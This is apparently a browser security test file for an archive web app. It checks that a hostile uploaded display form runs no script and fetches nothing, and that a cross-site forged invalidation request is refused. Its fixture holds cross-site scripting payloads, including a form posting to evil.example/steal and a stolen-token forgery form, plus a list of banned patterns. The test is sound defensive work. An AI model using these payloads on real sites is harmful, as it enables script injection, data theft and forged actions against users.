import type { Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { archive, csrfOf } from '../archivist/support.js';
import { startKantaSim, type KantaSimInstance } from '../support/sim.js';
import { launchChromium, type Browser } from './chromium.js';
import { CHROMIUM } from '../support/requirements.js';

/** A display form written to attack the archivist's browser: every trick must stay inert. */
const HOSTILE_XHTML = [
  '<div xmlns="http://www.w3.org/1999/xhtml" class="soc-document">',
  '<h1>Vihamielinen näyttömuoto</h1>',
  '<script>window.parent.__pwned = 1; alert("script")</script>',
  '<p onclick="alert(\'click\')" onmouseover="alert(\'hover\')" style="background:url(http://evil.example/bg.png)">Tavallinen kappale</p>',
  '<img src="http://evil.example/pixel.png" onerror="alert(\'img\')" alt="x"/>',
  '<a href="javascript:alert(\'link\')" id="js-link">Klikkaa tästä</a>',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<link rel="stylesheet" href="http://evil.example/style.css"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script><image href="http://evil.example/svg.png"/></svg>',
  '<object data="http://evil.example/object"></object>',
  '<form action="http://evil.example/steal"><input name="q"/><button>Lähetä</button></form>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/redirect"/>',
  '<base href="http://evil.example/"/>',
  '<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/body.png) }</style>',
  '</div>',
].join('');

describe.skipIf(!CHROMIUM.available)('a hostile display form in chromium', { timeout: 90_000 }, () => {
  let sim: KantaSimInstance;
  let browser: Browser;
  let documentId: string;

  beforeAll(async () => {
    sim = await startKantaSim();
    documentId = await archive(sim, sim.demo.organiser, { spec: (s) => ({ ...s, xhtml: HOSTILE_XHTML }) });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await sim?.stop();
  });

  it('renders without running anything or fetching anything', async () => {
    const page = await browser.context.newPage();
    const origin = new URL(sim.webUrl).origin;
    const foreign: string[] = [];
    const dialogs: string[] = [];
    const onRequest = (r: Request): void => {
      const url = r.url();
      if (!url.startsWith(origin) && !url.startsWith('about:') && !url.startsWith('data:')) {
        foreign.push(url);
      }
    };
    browser.context.on('request', onRequest);
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(`${sim.webUrl}/archivist/login`);
    await page.click('#demo-sign-in');
    await page.waitForURL(/\/archivist\/search/);
    await page.goto(`${sim.webUrl}/archivist/documents/${encodeURIComponent(documentId)}`);
    // Opened by its address: the purpose of use for its client comes first.
    await page.selectOption('#reason', 'error-investigation');
    await page.click('#purpose-form button[type=submit]');
    await page.waitForSelector('iframe.display-frame');
    const frameElement = page.locator('iframe.display-frame');
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    const frame = page.frameLocator('iframe.display-frame');
    await expect.poll(() => frame.locator('h1').textContent()).toBe('Vihamielinen näyttömuoto');
    await frame.locator('p').first().hover();
    await frame.locator('p').first().click();
    await frame.getByText('Klikkaa tästä').click();
    await page.waitForTimeout(500);

    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
    const body = srcdoc.slice(srcdoc.indexOf('<body>'));
    for (const banned of [
      '<script',
      'onerror',
      'onclick',
      'javascript:',
      'evil.example',
      '<img',
      '<iframe',
      '<form',
      '<a ',
    ]) {
      expect(body).not.toContain(banned);
    }
    expect(page.url()).toContain('/archivist/documents/');
    browser.context.off('request', onRequest);
    await page.close();
  });

  it('gives a cross-site form no session: the invalidation cannot be replayed from another origin', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${sim.webUrl}/archivist/login`);
    if (page.url().includes('/archivist/login')) {
      await page.click('#demo-sign-in');
      await page.waitForURL(/\/archivist\/search/);
    }
    const docPage = await page.goto(`${sim.webUrl}/archivist/documents/${encodeURIComponent(documentId)}`);
    const csrf = csrfOf((await docPage?.text()) ?? '');
    // An attacker's page on another origin (127.0.0.2 is another site for the browser) auto-submits the form,
    // even with a stolen token: the SameSite=Strict cookie stays home and the Origin check refuses it.
    const evil = sim.webUrl.replace('127.0.0.1', 'localhost');
    await page.goto(`${evil}/__sim`);
    await page.setContent(
      `<form id="f" method="post" action="${sim.webUrl}/archivist/documents/${encodeURIComponent(documentId)}/invalidate/confirm">` +
        `<input name="csrf" value="${csrf}"><input name="reason" value="hyökkäys"></form>`,
    );
    await Promise.all([
      page.waitForLoadState('load'),
      page.evaluate(() => (document.getElementById('f') as HTMLFormElement).submit()),
    ]);
    await page.waitForTimeout(300);
    expect((await sim.running.store.getDocument(documentId))?.state).toBe('current');
    await page.close();
  });
});
